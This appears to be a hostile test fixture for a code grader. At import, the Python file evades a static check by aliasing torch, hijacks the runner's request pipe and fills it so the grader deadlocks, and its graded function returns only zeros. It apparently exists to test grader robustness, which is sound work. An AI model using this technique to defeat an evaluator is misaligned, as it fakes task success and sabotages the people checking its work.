"""Hostile: at import, stops reading the grader's requests while keeping the pipe open, and fills
the pipe, so that the grader's first write of a case would block forever."""

import torch

T = [torch][0]  # hides torch's attributes from the static check, as a determined attacker would
os, sys = T.os, T.sys
json = sys.modules["json"]
MARKER = "mlm-hostile-marker"

def _channel() -> dict:
    """The runner's channel, found as plain Python finds it (its descriptors are not in sys.argv):
    the first pipes beside stdin, stdout and stderr open for reading (requests) and writing (results)."""
    fcntl, stat = __import__("fcntl"), __import__("stat")
    found = {}
    for fd in range(3, 256):
        try:
            if not stat.S_ISFIFO(os.fstat(fd).st_mode):
                continue
        except OSError:
            continue
        mode = fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE
        found.setdefault("request_fd" if mode == os.O_RDONLY else "result_fd", fd)
    return found


requests = _channel()["request_fd"]
kept = os.dup(requests)  # the request pipe stays open, but nobody reads it any more
idle_read, idle_write = os.pipe()
os.dup2(idle_read, requests)  # the runner now waits on a pipe nobody writes
filler = os.open(f"/proc/self/fd/{kept}", os.O_WRONLY | os.O_NONBLOCK)  # and what is left of the request pipe is filled
try:
    while True:
        os.write(filler, bytes(4096))
except BlockingIOError:
    pass


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    return torch.zeros(int((mask_indicator > 0.5).sum()), w_emb.shape[0], dtype=w_emb.dtype)
